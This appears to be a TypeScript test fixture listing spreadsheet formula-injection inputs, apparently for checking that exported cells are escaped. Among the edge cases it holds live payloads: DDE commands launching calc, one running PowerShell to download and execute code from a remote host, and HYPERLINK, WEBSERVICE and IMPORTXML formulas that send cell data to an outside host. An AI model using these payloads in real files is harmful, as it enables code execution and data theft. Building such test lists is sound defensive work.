import { ELSEWHERE } from './escapes.ts'

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠']

/** Formulas to a spreadsheet, or texts that change the number of cells. */
export const CELL_TEXTS: readonly string[] = [
  ...SIGNS.flatMap((sign) => [sign, `${sign}1+1`, `'${sign}1`, `''${sign}1`, `"${sign}1"`]),
  ...SIGNS.flatMap((sign) => [
    `,${sign}1`,
    `;${sign}1`,
    `a\t${sign}1`,
    `a\n${sign}1`,
    `a\r${sign}1`,
  ]),
  ...["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
  "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=DDE("cmd";"/C calc";"!A0")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  `=HYPERLINK("http://${ELSEWHERE}?x="&A1,"Error: click")`,
  `=WEBSERVICE("http://${ELSEWHERE}/"&A1)`,
  `=IMPORTXML(CONCAT("http://${ELSEWHERE}?v=",CONCATENATE(A2:E2)),"//a")`,
  `=IMAGE("https://${ELSEWHERE}/x.png")`,
  ...["'", "''", '"', '""', '","', '"\r\n"', 'a"b', 'a,b', 'a;b', '|', 'sep=;', '#REF!', 'a\\"b'],
  ...['\u200b=1', '\u22121', '\u202e=1', '1e5', '0x10', '௧௨௩', 'TRUE', 'null', '1/2', '00123'],
  ...['‘=1', '`=1', '%3D1', '\\=1', '=தக்காளி', '= 1', '=\u00a01', '='.repeat(200)],
]
